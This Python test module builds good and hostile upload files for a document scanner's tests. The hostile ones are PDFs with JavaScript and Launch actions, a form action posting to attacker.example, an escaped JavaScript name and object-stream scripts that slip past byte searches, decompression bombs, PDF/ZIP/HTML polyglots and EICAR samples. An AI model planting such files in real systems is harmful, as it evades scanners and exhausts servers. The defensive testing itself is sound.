"""Builders for the files the upload tests send: good ones and attacks.

Good PDFs come from pypdf's `PdfWriter`. Attacks that a writer will not produce (an escaped
name, an object stream that inflates to 30 MB, a ZIP inside a stream) are written by hand with
`pdf_raw()`, which computes the cross-reference table so that pypdf's strict mode accepts the
structure and only the check under test can refuse the file.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib

from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)
from reportlab.pdfgen import canvas

from visas.scan import EICAR

# --- PDFs made by pypdf ----------------------------------------------------------------------


def _written(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _writer(pages: int = 1) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    return writer


def pdf_minimal(pages: int = 1) -> bytes:
    """A well-formed PDF of blank A4 pages."""
    return _written(_writer(pages))


def _action(kind: str, **entries: str) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


def pdf_with_open_action(action: DictionaryObject) -> bytes:
    writer = _writer()
    writer.root_object[NameObject("/OpenAction")] = action
    return _written(writer)


def pdf_javascript_open_action() -> bytes:
    return pdf_with_open_action(_action("/JavaScript", JS="app.alert('hello')"))


def pdf_launch_open_action() -> bytes:
    return pdf_with_open_action(_action("/Launch", F="C:\\Windows\\System32\\calc.exe"))


def pdf_goto_open_action() -> bytes:
    """Open at the first page, fitted: the open action an honest PDF has."""
    writer = _writer()
    page = writer.pages[0].indirect_reference
    writer.root_object[NameObject("/OpenAction")] = ArrayObject([page, NameObject("/Fit")])
    return _written(writer)


def pdf_page_additional_action_javascript() -> bytes:
    """/AA on the page: a script when the page is opened."""
    writer = _writer()
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _action("/JavaScript", JS="this.print()")}
    )
    return _written(writer)


def pdf_submit_form_action() -> bytes:
    return pdf_with_open_action(_action("/SubmitForm", F="https://attacker.example/collect"))


def pdf_embedded_file() -> bytes:
    writer = _writer()
    writer.add_attachment("invoice.exe", b"MZ not really a program")
    return _written(writer)


def pdf_encrypted() -> bytes:
    writer = _writer()
    writer.encrypt(user_password="secret", owner_password="secret")
    return _written(writer)


def pdf_encrypted_empty_password() -> bytes:
    """Opens without a password in a viewer, but is still encrypted (printing restricted)."""
    writer = _writer()
    writer.encrypt(user_password="", owner_password="owner")
    return _written(writer)


def pdf_reportlab() -> bytes:
    """A page of text as reportlab (which the project's own PDFs use) writes it."""
    out = io.BytesIO()
    page = canvas.Canvas(out)
    page.drawString(72, 720, "Bank statement, January to June")
    page.showPage()
    page.save()
    return out.getvalue()


def pdf_many_pages(pages: int) -> bytes:
    return pdf_minimal(pages)


# --- PDFs written by hand --------------------------------------------------------------------


def pdf_raw(
    objects: list[bytes], *, root: int = 1, tail: bytes = b"\n", comment: bytes = b""
) -> bytes:
    """A PDF 1.7 of `objects` (object i+1 is `objects[i]`, the body between `obj` and
    `endobj`), with a correct cross-reference table, the trailer and `tail` after `%%EOF`;
    `comment` goes after the header."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + comment)
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\n" % (len(objects) + 1, root)
    out += b"startxref\n%d\n%%%%EOF" % xref + tail
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R %s >>"
_PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
_PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>"


def pdf_hand(*, catalog: bytes = b"", page: bytes = b"", more: list[bytes] | None = None) -> bytes:
    """One blank page; `catalog` and `page` are extra entries, `more` are objects 4, 5…"""
    return pdf_raw([_CATALOG % catalog, _PAGES, _PAGE % page, *(more or [])])


def pdf_escaped_javascript_name() -> bytes:
    """`/J#61vaScript` is `/JavaScript`: a byte search for the name would miss it."""
    return pdf_hand(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>")


def pdf_file_attachment_annotation() -> bytes:
    return pdf_hand(
        page=b"/Annots [4 0 R]",
        more=[b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (a.exe) >>"],
    )


def pdf_rich_media_annotation() -> bytes:
    return pdf_hand(
        page=b"/Annots [4 0 R]",
        more=[b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"],
    )


def pdf_xfa_form() -> bytes:
    return pdf_hand(
        catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>",
        more=[_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")],
    )


def pdf_orphan_javascript() -> bytes:
    """A script in an object nothing points to: still in the file, still refused."""
    return pdf_hand(more=[b"<< /S /JavaScript /JS (app.alert(1)) >>"])


def pdf_no_pages() -> bytes:
    return pdf_raw([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


@functools.cache
def pdf_content_bomb() -> bytes:
    """A page whose content stream inflates to 200 MB: a viewer's problem, not ours, since
    the check never decodes content streams. (It draws nothing: 200 MB of spaces.)"""
    deflated = _deflate_repeated(b" ", 200_000_000)
    return pdf_hand(page=b"/Contents 4 0 R", more=[_stream(deflated, b"/Filter /FlateDecode")])


def pdf_object_stream_bomb() -> bytes:
    """A PDF 1.5 file whose object stream (which a reader must inflate to find object 5)
    inflates to 30 MB: refused by the lowered decompression limit."""
    head = b"5 0 "
    body = head + b"<< /Note (padding follows) >>"
    deflated = _deflate(body, padding=30_000_000)
    objstm = b"<< /Type /ObjStm /N 1 /First %d /Length %d /Filter /FlateDecode >>\nstream\n" % (
        len(head),
        len(deflated),
    )
    objects = [
        _CATALOG % b"",
        _PAGES,
        _PAGE % b"",
        objstm + deflated + b"\nendstream",
    ]
    return _pdf_with_xref_stream(objects, compressed={5: (4, 0)})


def pdf_javascript_in_object_stream() -> bytes:
    """A script in a compressed object stream, where a byte search for `/JavaScript` in the
    file would not see it."""
    head = b"5 0 "
    deflated = zlib.compress(head + b"<< /S /JavaScript /JS (app.alert(1)) >>")
    objstm = b"<< /Type /ObjStm /N 1 /First %d /Length %d /Filter /FlateDecode >>\nstream\n" % (
        len(head),
        len(deflated),
    )
    objects = [_CATALOG % b"/OpenAction 5 0 R", _PAGES, _PAGE % b""]
    objects.append(objstm + deflated + b"\nendstream")
    return _pdf_with_xref_stream(objects, compressed={5: (4, 0)})


def _pdf_with_xref_stream(objects: list[bytes], compressed: dict[int, tuple[int, int]]) -> bytes:
    """Objects 1..n written plainly, `compressed` (number: (object stream, index)) listed as
    type-2 entries, and a cross-reference stream (W [1 4 2], no filter) as object n+len+1."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_number = len(objects) + len(compressed) + 1
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offset, 0) for offset in offsets]
    for number in sorted(compressed):
        stream_number, index = compressed[number]
        rows.append(struct.pack(">BIH", 2, stream_number, index))
    xref_offset = len(out)
    rows.append(struct.pack(">BIH", 1, xref_offset, 0))
    table = b"".join(rows)
    out += b"%d 0 obj\n" % xref_number
    out += b"<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % (
        xref_number + 1,
        len(table),
    )
    out += table + b"\nendstream\nendobj\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def _deflate(data: bytes, *, padding: int) -> bytes:
    """`data` followed by `padding` spaces, deflated in pieces (never all in memory)."""
    compressor = zlib.compressobj(9)
    out = [compressor.compress(data)]
    piece = b" " * 1_000_000
    for _ in range(padding // len(piece)):
        out.append(compressor.compress(piece))
    out.append(compressor.flush())
    return b"".join(out)


def _deflate_repeated(fill: bytes, size: int) -> bytes:
    """`size` bytes of `fill`, deflated in pieces."""
    compressor = zlib.compressobj(9)
    piece = fill * 1_000_000
    out = [compressor.compress(piece) for _ in range(size // len(piece))]
    out.append(compressor.flush())
    return b"".join(out)


def pdf_header_not_at_start() -> bytes:
    """Readers find `%PDF-` in the first 1024 bytes; we require it at offset 0."""
    return b"GIF89a" + b"\0" * 100 + pdf_minimal()


def pdf_eicar_comment() -> bytes:
    """A well-formed PDF carrying the EICAR test string in a comment after its header."""
    return pdf_raw([_CATALOG % b"", _PAGES, _PAGE % b""], comment=b"%" + EICAR + b"\n")


# --- polyglots and programs ------------------------------------------------------------------


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("payload.html", "<script>alert(1)</script>")
    return out.getvalue()


def pdf_zip_appended() -> bytes:
    """A PDF followed by a ZIP: a PDF viewer and unzip both open it."""
    return pdf_minimal() + zip_archive()


def pdf_zip_inside() -> bytes:
    """A ZIP inside a stream, before `%%EOF`: unzip finds its central directory."""
    return pdf_hand(more=[_stream(zip_archive())])


def pdf_html_after_eof() -> bytes:
    return pdf_minimal() + b"<html><script>alert(1)</script></html>"


def pdf_whitespace_after_eof() -> bytes:
    return pdf_minimal() + b"\r\n\n  \x00\x00"


def windows_executable() -> bytes:
    """The start of a PE file: a DOS header pointing at `PE\\0\\0`."""
    dos = bytearray(b"MZ" + b"\0" * 62)
    dos[60:64] = struct.pack("<I", 64)
    return bytes(dos) + b"PE\0\0" + b"\0" * 200


def linux_executable() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\0" * 200


def pdf_with_executable_inside() -> bytes:
    return pdf_hand(more=[_stream(windows_executable())])


def eicar() -> bytes:
    return EICAR


# --- images ----------------------------------------------------------------------------------


def _picture(size: tuple[int, int] = (400, 300)) -> Image.Image:
    image = Image.new("RGB", size, (200, 30, 40))
    image.paste((20, 40, 220), (0, 0, size[0] // 2, size[1]))
    return image


def jpeg(size: tuple[int, int] = (400, 300)) -> bytes:
    out = io.BytesIO()
    _picture(size).save(out, "JPEG", quality=90)
    return out.getvalue()


def jpeg_with_exif() -> bytes:
    """A JPEG whose EXIF carries a camera, a date and a GPS position."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0132] = "2026:01:02 03:04:05"  # DateTime
    exif[0x8825] = {1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 36.0)}  # GPS
    out = io.BytesIO()
    _picture().save(out, "JPEG", quality=90, exif=exif, comment=b"holiday")
    return out.getvalue()


def png(size: tuple[int, int] = (400, 300)) -> bytes:
    out = io.BytesIO()
    _picture(size).save(out, "PNG")
    return out.getvalue()


def png_with_text() -> bytes:
    """A PNG with text chunks naming its author and software."""
    info = PngInfo()
    info.add_text("Author", "Applicant Name")
    info.add_text("Software", "Scanner 1.0")
    out = io.BytesIO()
    _picture().save(out, "PNG", pnginfo=info)
    return out.getvalue()


def png_eicar_text() -> bytes:
    """A valid PNG carrying the EICAR string in a text chunk."""
    info = PngInfo()
    info.add_text("Comment", EICAR.decode("ascii"))
    out = io.BytesIO()
    _picture().save(out, "PNG", pnginfo=info)
    return out.getvalue()


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(side: int = 20_000) -> bytes:
    """A `side` x `side` one-bit greyscale PNG of zeros: about 50 KB on disk, 1.2 GB as RGB.
    The IHDR is written by hand; the image data is the deflated rows, made in pieces."""
    row = b"\0" + b"\0" * ((side + 7) // 8)  # filter byte, then the packed bits
    compressor = zlib.compressobj(9)
    rows_per_piece = 1000
    pieces = [compressor.compress(row * rows_per_piece) for _ in range(side // rows_per_piece)]
    pieces.append(compressor.compress(row * (side % rows_per_piece)))
    pieces.append(compressor.flush())
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", ihdr)
        + _png_chunk(b"IDAT", b"".join(pieces))
        + _png_chunk(b"IEND", b"")
    )


def png_zip_appended() -> bytes:
    return png() + zip_archive()


def jpeg_zip_appended() -> bytes:
    return jpeg() + zip_archive()


def gif() -> bytes:
    out = io.BytesIO()
    _picture().save(out, "GIF")
    return out.getvalue()
